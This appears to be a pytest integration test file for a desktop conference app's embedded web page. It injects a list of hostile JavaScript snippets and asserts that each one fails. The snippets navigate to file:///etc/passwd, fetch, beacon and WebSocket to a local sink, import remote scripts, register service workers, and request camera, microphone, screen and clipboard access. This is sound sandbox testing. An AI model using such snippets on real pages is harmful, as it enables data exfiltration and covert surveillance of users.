"""Hostile script inside the conference page, as if a message had injected it: it reaches nobody and gets nothing."""

from __future__ import annotations

import json
import socketserver
import threading
import time
from collections.abc import Iterator

import pytest

from tests.integration.conference_booth import CHANNEL, Booth, x_server

PATIENCE_MS = 1500
FRAME = "const f = document.createElement('{tag}'); f.{source} = 'http://' + SINK + '/{tag}'; document.body.append(f);"
MEDIA = "return (await navigator.mediaDevices.{call}).getTracks().length > 0"
OPENED = "await new Promise((done) => {{ s.onopen = () => done(true); }})"
SOCKET = f"const s = new {{kind}}('{{scheme}}://' + SINK + '/'); return {OPENED}"

ATTEMPTS = {
    "window": "return window.open('http://' + SINK + '/window') !== null",
    **{
        f"location-{url.split(':')[0]}": f"location.href = '{url}'.replace('SINK', SINK); return false"
        for url in (
            "http://SINK/", "file:///etc/passwd", "data:text/html,x", "chrome://gpu/",
            "qrc:/qtwebchannel/qwebchannel.js",
        )
    },
    "iframe": FRAME.format(tag="iframe", source="src"),
    "embed": FRAME.format(tag="embed", source="src"),
    "object": FRAME.format(tag="object", source="data"),
    "fetch": "await fetch('http://' + SINK + '/', {mode: 'no-cors'}); return true",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', 'http://' + SINK + '/'); x.send();",
    "event-source": SOCKET.format(kind="EventSource", scheme="http"),
    "websocket": SOCKET.format(kind="WebSocket", scheme="ws"),
    "beacon": "navigator.sendBeacon('http://' + SINK + '/', 'x');",
    "web-transport": "await new WebTransport('https://' + SINK + '/').ready; return true",
    "import": "await import('http://' + SINK + '/x.js'); return true",
    "worker": "new Worker('http://' + SINK + '/x.js'); return true",
    "service-worker": "await navigator.serviceWorker.register('http://' + SINK + '/x.js'); return true",
    "microphone": MEDIA.format(call="getUserMedia({audio: true})"),
    "camera": MEDIA.format(call="getUserMedia({video: true})"),
    "microphone-and-camera": MEDIA.format(call="getUserMedia({audio: true, video: true})"),
    "screen": MEDIA.format(call="getDisplayMedia({video: true})"),
    "confirm": "return confirm('x')",
    "prompt": "return prompt('x') !== null",
    "clipboard": "await navigator.clipboard.readText(); return true",
    "notification": "return await Notification.requestPermission() === 'granted'",
    "geolocation": "return await new Promise((y) => navigator.geolocation.getCurrentPosition(() => y(true), y))",
    "fullscreen": "await document.body.requestFullscreen(); return true",
    "pointer-lock": "await document.body.requestPointerLock(); return document.pointerLockElement !== null",
}  # fmt: skip


class Sink(socketserver.ThreadingTCPServer):
    """Takes every connection and keeps the first line of it."""

    daemon_threads = True

    def __init__(self) -> None:
        self.arrived: list[bytes] = []
        super().__init__(("127.0.0.1", 0), _Take)

    @property
    def place(self) -> str:
        return f"127.0.0.1:{self.server_address[1]}"


class _Take(socketserver.StreamRequestHandler):
    def handle(self) -> None:
        assert isinstance(self.server, Sink)
        self.request.settimeout(2)
        self.server.arrived.append(self.rfile.readline(1000))


@pytest.fixture
def sink() -> Iterator[Sink]:
    with Sink() as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def child() -> Iterator[Booth]:
    with x_server() as display:
        booth = Booth(display)
        yield booth
        booth.end()


@pytest.fixture
def booth(child: Booth) -> Booth:
    child.begin()
    return child


def attempt(booth: Booth, sink: Sink, script: str) -> str:
    late = f"new Promise((done) => setTimeout(() => done(false), {PATIENCE_MS}))"
    return booth.settled(
        f"Promise.race([(async () => {{ const SINK = {json.dumps(sink.place)}; {script} }})(), {late}])"
    )


@pytest.mark.parametrize("script", ATTEMPTS.values(), ids=ATTEMPTS)
def test_an_attempt_gets_nothing(booth: Booth, sink: Sink, script: str) -> None:
    booth.open(desktop=False)
    assert attempt(booth, sink, script) != "got true"
    time.sleep(0.3)
    assert booth.run("location.href + document.title.length").startswith("booth-conference://page/")
    assert sink.arrived == []


def test_the_sink_would_have_heard(booth: Booth, sink: Sink) -> None:
    booth.open(desktop=False, server=f"ws://{sink.place}/")
    attempt(booth, sink, ATTEMPTS["websocket"])
    assert sink.arrived


def test_a_page_that_destroys_its_door_is_loaded_anew(booth: Booth) -> None:
    booth.open(desktop=False)
    booth.run("b.deleteLater(); 1")
    booth.send("status", video="live", voice="live")
    booth.wait("said", kind="ready")


def test_a_flood_of_twenty_thousand_messages_costs_the_page_its_life_and_not_the_booth(booth: Booth) -> None:
    booth.open(desktop=False)
    booth.run('for (let i = 0; i < 20000; i++) b.say(\'{"kind": "present"}\'); 1')
    booth.wait("noted", kind="conference_refused")
    booth.wait("said", kind="ready")
    booth.run(CHANNEL + "; 1")
    booth.run_until("!!window.b")
    assert sum(each["event"] == "choice" for each in booth.events) < 1000
